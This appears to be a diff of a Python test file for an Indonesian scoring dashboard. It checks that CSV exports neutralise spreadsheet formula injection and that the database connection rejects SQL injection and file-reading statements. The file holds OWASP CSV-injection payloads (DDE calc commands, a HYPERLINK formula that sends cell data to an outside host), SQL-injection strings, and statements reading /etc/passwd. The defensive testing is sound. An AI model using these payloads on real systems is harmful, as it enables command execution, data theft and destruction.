@@ -1,6 +1,6 @@
 """Hostile values end to end: spreadsheet formula payloads (the OWASP CSV-injection list) loaded as
-unit, instansi and file names, then out through every CSV export (zi.exports and the download of
-every table on every page); SQL-injection strings through every parameter of every zi.queries
+unit, instansi and file names, then out through every CSV export (zi.present.exports and the download of
+every table on every page); SQL-injection strings through every parameter of every zi.query.queries
 function and every URL-bound filter; and the dashboard's connection refusing file reads, ATTACH of
 files, INSTALL/LOAD, SET, writes and pandas replacement scans.
 
@@ -20,23 +20,48 @@ from pathlib import Path
 import duckdb
 import pandas as pd
 import pytest
+from conftest import ROOT, run_cli, sha256_of
 from streamlit.testing.v1 import AppTest
 
-import zi.ui
-from conftest import ROOT, run_cli, sha256_of
-from zi import queries
-from zi.db import Warehouse
-from zi.exports import FORMULA_TRIGGERS, csv_for_excel
+import zi.present.ui
+from zi.present.exports import FORMULA_TRIGGERS, csv_for_excel
+from zi.query import queries
+from zi.query.db import Warehouse
 
 FORMULAS = [
-    "=cmd|' /C calc'!A0", "=1+1", "+SUM(1)", "-2+3", "@SUM(1)", "\t=1", "\r=2", "==1",
-    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")', "=IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")",
-    "+cmd|' /C notepad'!'A1'", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")A0',
-    "=10+20+cmd|' /C calc'!A0", "-1", "+62 812 3456",
+    "=cmd|' /C calc'!A0",
+    "=1+1",
+    "+SUM(1)",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=2",
+    "==1",
+    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
+    '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
+    "+cmd|' /C notepad'!'A1'",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "=10+20+cmd|' /C calc'!A0",
+    "-1",
+    "+62 812 3456",
 ]
 SQL = [
-    "' OR '1'='1", "x'; DROP TABLE rekap; --", "TPI' --", "1; DELETE FROM loads", "'; ATTACH '/etc/passwd' AS p; --",
-    "\" OR \"\"=\"", "%", "_", "\\", "TPI\x00", "' UNION SELECT * FROM loads --", "$year", "?", "semua' OR scope = 'semua",
+    "' OR '1'='1",
+    "x'; DROP TABLE rekap; --",
+    "TPI' --",
+    "1; DELETE FROM loads",
+    "'; ATTACH '/etc/passwd' AS p; --",
+    '" OR ""="',
+    "%",
+    "_",
+    "\\",
+    "TPI\x00",
+    "' UNION SELECT * FROM loads --",
+    "$year",
+    "?",
+    "semua' OR scope = 'semua",
 ]
 NUMBER = re.compile(r"-?\d+([.,]\d+)*")  # a number as a spreadsheet reads it (not a formula), either decimal mark
 PAGES = sorted(str(p) for p in (ROOT / "pages").glob("**/*.py"))
@@ -53,14 +78,52 @@ def hostile_db(tmp_path_factory) -> Path:
     """Kalimantan Tengah units named by formula and SQL payloads, Jawa Barat units scoring lower
     (so the differences Jawa Barat - Kalimantan Tengah are negative), the file loaded under a formula name."""
     folder = tmp_path_factory.mktemp("hostile")
-    header = ["provinsi", "instansi", "unit_kerja", "tahun", "tahap", "mp", "tt", "sdm", "ak", "pw", "pp", "ipak", "ck", "ipkp", "catatan"]
+    header = [
+        "provinsi",
+        "instansi",
+        "unit_kerja",
+        "tahun",
+        "tahap",
+        "mp",
+        "tt",
+        "sdm",
+        "ak",
+        "pw",
+        "pp",
+        "ipak",
+        "ck",
+        "ipkp",
+        "catatan",
+    ]
     rows = [header]
     for year in (2023, 2024):
         for name in FORMULAS + [s for s in SQL if "\x00" not in s]:  # a NUL makes a file binary: refused
-            rows.append(["62", "Pemprov Kalimantan Tengah", name, str(year), "TPI", "5", "4", "7", "7", "10", "7", "14", "3", "13", name])
+            rows.append(
+                ["62", "Pemprov Kalimantan Tengah", name, str(year), "TPI", "5", "4", "7", "7", "10", "7", "14", "3", "13", name]
+            )
         for i in range(3):
-            rows.append(["32", "Pemprov Jawa Barat", f"Dinas {i}", str(year), "TPI", "3", "2", "5", "5", "8", "5", "12", "2", "11", ""])
-        rows.append(["62", "=Pemprov Kalimantan Tengah", "=SUM(A1:A9)", str(year), "TPI", "5", "4", "7", "7", "10", "7", "14", "3", "13", "-"])
+            rows.append(
+                ["32", "Pemprov Jawa Barat", f"Dinas {i}", str(year), "TPI", "3", "2", "5", "5", "8", "5", "12", "2", "11", ""]
+            )
+        rows.append(
+            [
+                "62",
+                "=Pemprov Kalimantan Tengah",
+                "=SUM(A1:A9)",
+                str(year),
+                "TPI",
+                "5",
+                "4",
+                "7",
+                "7",
+                "10",
+                "7",
+                "14",
+                "3",
+                "13",
+                "-",
+            ]
+        )
     source = _csv(folder / "rekap.csv", rows)
     db = folder / "wh" / "zi.duckdb"
     code, out = run_cli("load", source, "--db", db, f"--name={source}==cmd|' /C calc'!A0.csv", "--by=@SUM(1)")
@@ -88,10 +151,15 @@ def unsafe_cells(data: bytes) -> list[str]:
 
 # -- exports --------------------------------------------------------------------------------------------
 def test_csv_for_excel_neutralises_text_and_keeps_numbers():
-    frame = pd.DataFrame({
-        "unit": FORMULAS, "selisih": [-(i + 0.5) for i in range(len(FORMULAS))], "n": range(-3, len(FORMULAS) - 3),
-        "=kolom": [True] * len(FORMULAS), "campur": [FORMULAS[0], -1.5] + [None] * (len(FORMULAS) - 2),
-    })
+    frame = pd.DataFrame(
+        {
+            "unit": FORMULAS,
+            "selisih": [-(i + 0.5) for i in range(len(FORMULAS))],
+            "n": range(-3, len(FORMULAS) - 3),
+            "=kolom": [True] * len(FORMULAS),
+            "campur": [FORMULAS[0], -1.5] + [None] * (len(FORMULAS) - 2),
+        }
+    )
     rows = cells(csv_for_excel(frame))
     assert unsafe_cells(csv_for_excel(frame)) == []
     assert rows[0] == ["unit", "selisih", "n", "'=kolom", "campur"]
@@ -112,7 +180,7 @@ def test_the_payloads_reached_the_warehouse_as_written(hostile_db):
     assert files == {"=cmd|' /C calc'!A0.csv"} and by == [("@SUM(1)",)]
 
 
-# The pages' on-demand sections (zi.ui.on_demand): opened, so that every table of a page is shown.
+# The pages' on-demand sections (zi.present.ui.on_demand): opened, so that every table of a page is shown.
 ON_DEMAND = ("bandingkan_selisih", "bandingkan_unit", "profil_subarea", "profil_asal_data", "metodologi_file")
 
 
@@ -125,14 +193,18 @@ def open_every_section(at: AppTest) -> None:
 def page_downloads(hostile_db):
     """Every page run on the hostile warehouse; every CSV its tables offer, by page."""
     recorded: dict[str, list[bytes]] = {}
-    original = zi.ui.csv_for_excel
+    original = zi.present.ui.csv_for_excel
     patch = pytest.MonkeyPatch()
     patch.setenv("ZI_DB", str(hostile_db))
     errors = {}
     try:
         for path in PAGES:
             page = Path(path).stem
-            patch.setattr(zi.ui, "csv_for_excel", lambda frame, page=page: recorded.setdefault(page, []).append(original(frame)) or recorded[page][-1])
+            patch.setattr(
+                zi.present.ui,
+                "csv_for_excel",
+                lambda frame, page=page: recorded.setdefault(page, []).append(original(frame)) or recorded[page][-1],
+            )
             at = AppTest.from_file(path, default_timeout=120)
             open_every_section(at)
             at.run()
@@ -151,17 +223,37 @@ def test_every_page_csv_download_is_safe_and_keeps_negative_numbers(page_downloa
     assert unsafe == {}
     text = "\n".join(data.decode("utf-8") for files in recorded.values() for data in files)
     assert "'=cmd|' /C calc'!A0" in text  # the payload is there, as text
-    negatives = [c for files in recorded.values() for data in files for row in cells(data) for c in row if NUMBER.fullmatch(c) and c.startswith("-")]
+    negatives = [
+        c
+        for files in recorded.values()
+        for data in files
+        for row in cells(data)
+        for c in row
+        if NUMBER.fullmatch(c) and c.startswith("-")
+    ]
     assert negatives  # e.g. the difference table on Bandingkan: Jawa Barat below Kalimantan Tengah
 
 
 # -- SQL injection through every query parameter -------------------------------------------------------
 VALUES = {  # a valid value per parameter name, and whether a hostile string may stand in for it
-    "year": (2024, False), "year_from": (2023, False), "year_to": (2024, False), "stage": ("TPI", True),
-    "scope": ("semua", True), "predicate": ("WBK", True), "area": ("MP", True), "rubric": ("permen90-2021", True),
-    "provinces": ([62, 32], False), "exclude_provinces": ([32], False), "load_id": (1, False),
-    "unit_id": (None, True), "peer_id": (None, True), "learner_unit": (None, True),
-    "unit_label": ("unit", True), "peer_label": ("pembanding", True), "count": (3, False), "learner_jenis": ("Dinas", True),
+    "year": (2024, False),
+    "year_from": (2023, False),
+    "year_to": (2024, False),
+    "stage": ("TPI", True),
+    "scope": ("semua", True),
+    "predicate": ("WBK", True),
+    "area": ("MP", True),
+    "rubric": ("permen90-2021", True),
+    "provinces": ([62, 32], False),
+    "exclude_provinces": ([32], False),
+    "load_id": (1, False),
+    "unit_id": (None, True),
+    "peer_id": (None, True),
+    "learner_unit": (None, True),
+    "unit_label": ("unit", True),
+    "peer_label": ("pembanding", True),
+    "count": (3, False),
+    "learner_jenis": ("Dinas", True),
 }
 NO_MATCH = "tidak-ada-nilai-ini"
 
@@ -228,7 +320,10 @@ def test_a_unit_named_with_sql_equals_a_pandas_filter(wh, hostile_db):
     for unit_id in hostile_ids:
         expected = scores[scores["unit_id"] == unit_id].sort_values(["year", "stage"])
         got = queries.unit_scores(wh, unit_id)
-        assert got[["unit_id", "year", "stage", "total"]].values.tolist() == expected[["unit_id", "year", "stage", "total"]].values.tolist()
+        assert (
+            got[["unit_id", "year", "stage", "total"]].values.tolist()
+            == expected[["unit_id", "year", "stage", "total"]].values.tolist()
+        )
         assert queries.unit_provenance(wh, unit_id)["year"].tolist() == expected["year"].tolist()
 
 
@@ -238,8 +333,9 @@ def test_province_lists_accept_only_numbers(wh):
             queries.units_list(wh, bad)
 
 
-@pytest.mark.parametrize("path", ["pages/dasbor/ringkasan.py", "pages/dasbor/bandingkan.py", "pages/dasbor/tren.py",
-                                  "pages/dasbor/profil_unit.py"])
+@pytest.mark.parametrize(
+    "path", ["pages/dasbor/ringkasan.py", "pages/dasbor/bandingkan.py", "pages/dasbor/tren.py", "pages/dasbor/profil_unit.py"]
+)
 def test_hostile_url_filters_fall_back_to_the_defaults(hostile_db, monkeypatch, path):
     monkeypatch.setenv("ZI_DB", str(hostile_db))
     plain = AppTest.from_file(str(ROOT / path), default_timeout=120)
@@ -254,29 +350,32 @@ def test_hostile_url_filters_fall_back_to_the_defaults(hostile_db, monkeypatch, 
 
 
 # -- the connection refuses everything but reading the warehouse ----------------------------------------
-@pytest.mark.parametrize("statement", [
-    "SELECT * FROM read_csv('/etc/passwd')",
-    "SELECT * FROM read_text('/etc/hostname')",
-    "SELECT * FROM glob('/etc/*')",
-    "SELECT * FROM '/etc/passwd'",
-    "ATTACH '/tmp/zi_injeksi.duckdb' AS lain",
-    "ATTACH '/etc/passwd' AS p (READ_ONLY)",
-    "COPY (SELECT 1) TO '/tmp/zi_injeksi.csv'",
-    "EXPORT DATABASE '/tmp/zi_injeksi_ekspor'",
-    "INSTALL httpfs",
-    "LOAD httpfs",
-    "SET enable_external_access = true",
-    "SET lock_configuration = false",
-    "SET threads = 1",
-    "RESET enable_external_access",
-    "INSERT INTO rekap SELECT * FROM rekap LIMIT 1",
-    "DELETE FROM loads",
-    "UPDATE loads SET note = 'x'",
-    "CREATE TABLE curian AS SELECT 1",
-    "DROP VIEW scores",
-    "DETACH warehouse",
-    "SELECT * FROM secret_frame",
-])
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "SELECT * FROM read_csv('/etc/passwd')",
+        "SELECT * FROM read_text('/etc/hostname')",
+        "SELECT * FROM glob('/etc/*')",
+        "SELECT * FROM '/etc/passwd'",
+        "ATTACH '/tmp/zi_injeksi.duckdb' AS lain",
+        "ATTACH '/etc/passwd' AS p (READ_ONLY)",
+        "COPY (SELECT 1) TO '/tmp/zi_injeksi.csv'",
+        "EXPORT DATABASE '/tmp/zi_injeksi_ekspor'",
+        "INSTALL httpfs",
+        "LOAD httpfs",
+        "SET enable_external_access = true",
+        "SET lock_configuration = false",
+        "SET threads = 1",
+        "RESET enable_external_access",
+        "INSERT INTO rekap SELECT * FROM rekap LIMIT 1",
+        "DELETE FROM loads",
+        "UPDATE loads SET note = 'x'",
+        "CREATE TABLE curian AS SELECT 1",
+        "DROP VIEW scores",
+        "DETACH warehouse",
+        "SELECT * FROM secret_frame",
+    ],
+)
 def test_the_dashboard_connection_refuses(wh, hostile_db, statement):
     secret_frame = pd.DataFrame({"rahasia": [1]})  # noqa: F841 - a pandas replacement scan must not find it
     before = sha256_of(hostile_db)
